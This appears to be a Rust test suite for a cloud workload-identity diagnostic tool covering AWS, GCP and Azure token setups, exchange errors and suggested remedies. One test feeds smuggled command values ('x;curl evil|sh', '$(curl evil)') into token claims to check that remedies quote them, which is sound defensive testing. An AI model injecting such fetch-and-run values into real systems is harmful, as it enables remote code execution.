use super::observation::{Exchanged, Who};
use super::*;
use crate::claims::tests::token;
use crate::exchange::ExchangeError;
use crate::http::HttpError;
use crate::pod::PODINFO;
use crate::testing::Folder;

/// A pod of EKS with a token for this audience; nobody answers anywhere.
fn irsa(folder: &Folder, subject: &str, audience: &str) -> Pod {
    let claims = serde_json::json!({"iss": "https://issuer", "sub": subject, "aud": [audience], "exp": 4_000_000_000_u64});
    folder.mount("/run", &[("token", &token(&claims))]);
    folder.pod().alone().set(&[
        ("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/app"),
        ("AWS_WEB_IDENTITY_TOKEN_FILE", "/run/token"),
        ("AWS_REGION", "eu-west-1"),
        ("AWS_DEFAULT_REGION", "eu-west-1"),
    ])
}

fn finding(diagnosis: &Diagnosis, code: Code) -> Option<&Finding> {
    diagnosis.troubles().find(|finding| finding.code == code)
}

/// The findings of a pod whose exchanges all went like this.
async fn after(pod: &Pod, result: Result<Who, ExchangeError>) -> Vec<Finding> {
    let mut observation = Observation::of(pod, false).await;
    for seen in &mut observation.seen {
        let result = result.clone();
        seen.exchange = Some(Exchanged {
            result,
            ahead: None,
        });
    }
    let mut findings = checks(&observation);
    findings.retain(|finding| finding.verdict != Verdict::Pass);
    findings
}

fn who() -> Who {
    Who {
        principal: None,
        expires: SystemTime::UNIX_EPOCH
            .checked_add(std::time::Duration::from_secs(999_999_999_999)),
    }
}

fn refused(code: &str, message: &str) -> ExchangeError {
    ExchangeError::Refused {
        host: "h".to_owned(),
        status: 403,
        code: code.to_owned(),
        message: message.to_owned(),
        retry_after: None,
    }
}

fn external(folder: &Folder, audience: &str) -> Pod {
    let claims = serde_json::json!({"iss": "https://issuer", "sub": "system:serviceaccount:a:b", "aud": [audience], "exp": 4_000_000_000_u64});
    folder.mount("/run", &[("token", &token(&claims))]);
    folder.write(
        "c.json",
        r#"{"type": "external_account", "audience": "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x",
            "credential_source": {"file": "/run/token"}}"#,
    );
    folder
        .pod()
        .alone()
        .set(&[("GOOGLE_APPLICATION_CREDENTIALS", "/c.json")])
}

#[tokio::test]
async fn the_status_is_the_same_for_all_who_look() {
    let status = async |pod: &Pod| examine(pod, false).await.status(false);
    let folder = Folder::new();
    let good = irsa(&folder, "system:serviceaccount:a:b", "sts.amazonaws.com");
    assert_eq!(status(&good).await, 0);
    assert_eq!(status(&Pod::default().alone()).await, NOT_EXPECTED);
    let unreadable = good.set(&[("AWS_WEB_IDENTITY_TOKEN_FILE", "/none")]);
    assert_eq!(status(&unreadable).await, 1);
    let folder = Folder::new();
    folder.mount(
        PODINFO,
        &[("annotations", "pyproc/identity-provider=\"newer\"\n")],
    );
    let diagnosis = examine(&folder.pod().alone(), false).await;
    assert_eq!(
        (diagnosis.worst(), diagnosis.status(false)),
        (Verdict::Warn, 1)
    );
    assert!(
        !finding(&diagnosis, Code::UnknownProvider)
            .unwrap()
            .remedies
            .is_empty()
    );
    let missing = Pod::default()
        .alone()
        .set(&[("GOOGLE_APPLICATION_CREDENTIALS", "/none")]);
    assert_eq!(status(&missing).await, 1);
}

#[tokio::test]
async fn an_exchange_that_goes_well_settles_what_was_guessed() {
    let folder = Folder::new();
    let aws = irsa(&folder, "system:serviceaccount:a:b", "my-audience");
    let other = Folder::new();
    let google = external(&other, "my-audience");
    let azure = aws.clone().set(&[
        ("AZURE_CLIENT_ID", "11111111-2222-3333-4444-555555555555"),
        ("AZURE_TENANT_ID", "11111111-2222-3333-4444-555555555555"),
        ("AZURE_FEDERATED_TOKEN_FILE", "/run/token"),
        ("AWS_ROLE_ARN", ""),
        ("AWS_WEB_IDENTITY_TOKEN_FILE", ""),
    ]);
    for (pod, code) in [
        (aws, Code::AwsAudience),
        (google, Code::GcpAudience),
        (azure, Code::AzNoMatchingFic),
    ] {
        let offline = examine(&pod, false).await;
        assert!(finding(&offline, code).is_some(), "{code:?}");
        let online = after(&pod, Ok(who())).await;
        assert!(online.is_empty(), "{online:?}");
    }
}

#[tokio::test]
async fn every_mechanism_is_exchanged() {
    let folder = Folder::new();
    let pod = external(&folder, "x").set(&[
        ("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/app"),
        ("AWS_WEB_IDENTITY_TOKEN_FILE", "/none"),
        (
            "AWS_CONTAINER_CREDENTIALS_FULL_URI",
            "http://169.254.170.23/v1/credentials",
        ),
        ("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "/none"),
        ("AZURE_CLIENT_ID", "c"),
        ("AZURE_TENANT_ID", "t"),
        ("AZURE_FEDERATED_TOKEN_FILE", "/none"),
    ]);
    folder.write("run/token", "none");
    let observation = Observation::of(&pod, true).await;
    assert_eq!(observation.seen.len(), 4);
    assert!(observation.seen.iter().all(|seen| seen.exchange.is_some()));
}

#[tokio::test]
async fn what_only_looks_like_an_emulator_is_none() {
    let folder = Folder::new();
    let pod = irsa(&folder, "system:serviceaccount:a:b", "sts.amazonaws.com");
    let set = async |variables: &[(&str, &str)]| {
        let diagnosis = examine(&pod.clone().set(variables), false).await;
        finding(&diagnosis, Code::EmulatorLeftOn).cloned()
    };
    for good in [
        "https://vpce-1-2.sts.eu-west-1.vpce.amazonaws.com",
        "https://sts.eu-west-1.amazonaws.com:443/",
        "https://vpce-0-1.sts.cn-north-1.vpce.amazonaws.com.cn:443/",
    ] {
        assert_eq!(set(&[("AWS_ENDPOINT_URL_STS", good)]).await, None, "{good}");
    }
    for bad in [
        "http://vpce-0-1.sts.eu-west-1.vpce.amazonaws.com",
        "https://localhost:5000/.vpce.amazonaws.com",
        "https://vpce.amazonaws.com.example.com",
    ] {
        assert!(
            set(&[("AWS_ENDPOINT_URL_STS", bad)]).await.is_some(),
            "{bad}"
        );
    }
    let left = set(&[("AWS_ENDPOINT_URL", "http://user:key@localstack:4566")]).await;
    let left = left.expect("a finding");
    assert!(
        left.evidence
            .contains(&"AWS_ENDPOINT_URL=http://localstack:4566".to_owned())
    );
    assert!(
        left.remedies[1]
            .text
            .ends_with("set env deployment DEPLOYMENT AWS_ENDPOINT_URL-"),
        "{left:?}"
    );
    let ignored = [
        ("AWS_ENDPOINT_URL", "http://localstack:4566"),
        ("AWS_IGNORE_CONFIGURED_ENDPOINT_URLS", "true"),
    ];
    assert_eq!(set(&ignored).await, None);
    let google = pod.clone().set(&[
        ("GOOGLE_APPLICATION_CREDENTIALS", "/none"),
        ("GCE_METADATA_HOST", "169.254.169.254:80"),
        ("NO_GCE_CHECK", "false"),
    ]);
    folder.mount(
        PODINFO,
        &[("annotations", "pyproc/identity-provider=\"gke\"\n")],
    );
    let diagnosis = examine(&google, false).await;
    assert_eq!(finding(&diagnosis, Code::EmulatorLeftOn), None);
}

#[tokio::test]
async fn the_proxy_is_compared_with_the_address_that_the_pod_has() {
    let folder = Folder::new();
    let claims =
        serde_json::json!({"sub": "system:serviceaccount:a:b", "aud": ["pods.eks.amazonaws.com"]});
    folder.mount("/run", &[("token", &token(&claims))]);
    let pod = folder.pod().alone().set(&[
        (
            "AWS_CONTAINER_CREDENTIALS_FULL_URI",
            "http://169.254.170.23/v1/credentials",
        ),
        ("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "/run/token"),
        ("HTTP_PROXY", "http://proxy:3128"),
    ]);
    let captured = examine(&pod, false).await;
    let warned = finding(&captured, Code::ProxyCapturesMetadata).expect("a finding");
    assert_eq!(warned.verdict, Verdict::Warn);
    let kept = pod.set(&[("NO_PROXY", "169.254.170.23")]);
    assert_eq!(
        finding(&examine(&kept, false).await, Code::ProxyCapturesMetadata),
        None
    );
}

#[tokio::test]
async fn a_bundle_that_only_openssl_knows_says_nothing_about_the_sdks() {
    let folder = Folder::new();
    let pod = irsa(&folder, "system:serviceaccount:a:b", "sts.amazonaws.com");
    let set = async |variables: &[(&str, &str)]| {
        let diagnosis = examine(&pod.clone().set(variables), false).await;
        finding(&diagnosis, Code::TlsUntrusted).is_some()
    };
    assert!(set(&[("SSL_CERT_FILE", "/etc/corporate.pem")]).await);
    assert!(!set(&[("SSL_CERT_FILE", "/etc/ssl/certs/ca-certificates.crt")]).await);
    let both = [
        ("SSL_CERT_FILE", "/etc/corporate.pem"),
        ("AWS_CA_BUNDLE", "/etc/corporate.pem"),
    ];
    assert!(!set(&both).await && !set(&[]).await);
}

#[tokio::test]
async fn a_role_with_any_path_is_one() {
    let folder = Folder::new();
    let pod = irsa(&folder, "system:serviceaccount:a:b", "sts.amazonaws.com").set(&[(
        "AWS_ROLE_ARN",
        "arn:aws:iam::123456789012:role/team:one/app",
    )]);
    let who = Who {
        principal: Some("arn:aws:sts::123456789012:assumed-role/app/pyproc".to_owned()),
        expires: None,
    };
    assert_eq!(after(&pod, Ok(who)).await, []);
}

#[tokio::test]
async fn no_claim_becomes_a_command() {
    let folder = Folder::new();
    let evil = "system:serviceaccount:x;curl evil|sh:y";
    let pod =
        irsa(&folder, evil, "$(curl evil)").set(&[("AZURE_FEDERATED_TOKEN_FILE", "/run/token")]);
    for error in [
        refused("AccessDenied", ""),
        refused("InvalidIdentityToken", "Incorrect token audience"),
        refused("InvalidIdentityToken", "No provider"),
        refused("ThrottlingException", ""),
        ExchangeError::Http(HttpError::Lost {
            host: "h".to_owned(),
            problem: "p".to_owned(),
        }),
    ] {
        for finding in after(&pod, Err(error.clone())).await {
            for remedy in &finding.remedies {
                let quoted = remedy.kind != Kind::Shell
                    || !remedy.text.contains("curl evil")
                    || remedy.text.contains("'x;curl evil|sh'")
                    || remedy.text.contains("'$(curl evil)'");
                assert!(quoted, "{}", remedy.text);
            }
        }
    }
}

#[tokio::test]
async fn what_breaks_has_something_to_do() {
    let folder = Folder::new();
    let pod = irsa(&folder, "system:serviceaccount:a:b", "sts.amazonaws.com");
    let errors = [
        refused("Throttling", ""),
        refused("temporarily_unavailable", ""),
        ExchangeError::Http(HttpError::Resolve {
            host: "h".to_owned(),
            problem: "no answer from DNS within 1s".to_owned(),
        }),
        ExchangeError::Http(HttpError::Proxy {
            proxy: "p".to_owned(),
            problem: "refused".to_owned(),
        }),
        ExchangeError::Unexpected {
            host: "h".to_owned(),
            status: 200,
            problem: "p".to_owned(),
        },
    ];
    for error in errors {
        for finding in after(&pod, Err(error)).await {
            assert!(
                !finding.remedies.is_empty() && !finding.cause.is_empty(),
                "{finding:?}"
            );
        }
    }
    for path in ["/run", "/empty", "/none"] {
        folder.write("empty", "");
        let pod = pod.clone().set(&[("AWS_WEB_IDENTITY_TOKEN_FILE", path)]);
        let diagnosis = examine(&pod, false).await;
        assert!(
            diagnosis
                .troubles()
                .all(|finding| !finding.remedies.is_empty())
        );
    }
}

#[tokio::test]
async fn an_api_that_is_off_is_told_from_a_missing_binding() {
    let folder = Folder::new();
    let pod = external(
        &folder,
        "https://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x",
    );
    let off = refused(
        "PERMISSION_DENIED",
        "IAM Service Account Credentials API has not been used in project 42 before or it is disabled.",
    );
    let findings = after(&pod, Err(off)).await;
    let [finding] = findings.as_slice() else {
        panic!("one finding in {findings:?}")
    };
    assert_eq!(finding.code, Code::ExchangeRefused);
    assert_eq!(
        finding.remedies[0].text,
        "gcloud services enable iamcredentials.googleapis.com --project 42"
    );
}
